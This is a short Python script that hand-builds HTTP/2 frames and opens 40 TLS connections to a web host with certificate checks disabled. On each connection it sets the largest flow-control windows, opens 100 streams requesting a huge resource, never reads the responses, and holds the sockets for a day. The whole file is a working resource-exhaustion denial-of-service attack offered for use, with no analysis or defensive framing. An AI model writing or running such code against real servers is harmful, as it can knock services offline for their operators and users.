"""Opens connections with HTTP/2 and a hundred requests on each, lets the server send whatever it wants, and reads nothing."""

import socket
import ssl
import struct
import time

HOST, CONNECTIONS, STREAMS = "www.example.com", 40, 100


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def field(name: str, value: str) -> bytes:
    """A header field that is neither indexed nor encoded (RFC 7541 section 6.2.2)."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


head = b"".join(field(*pair) for pair in ((":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/bytes/100000000")))
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
held = []
for _ in range(CONNECTIONS):
    one = context.wrap_socket(socket.create_connection((HOST, 443), 60), server_hostname=HOST)
    assert one.selected_alpn_protocol() == "h2"
    # Windows as large as they can be.
    begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack("!HI", 4, 2**31 - 1)) + frame(8, 0, 0, struct.pack("!I", 2**31 - 1 - 65535))
    one.sendall(begin + b"".join(frame(1, 5, 2 * number + 1, head) for number in range(STREAMS)))
    held.append(one)
print("held", len(held), flush=True)
time.sleep(86400)
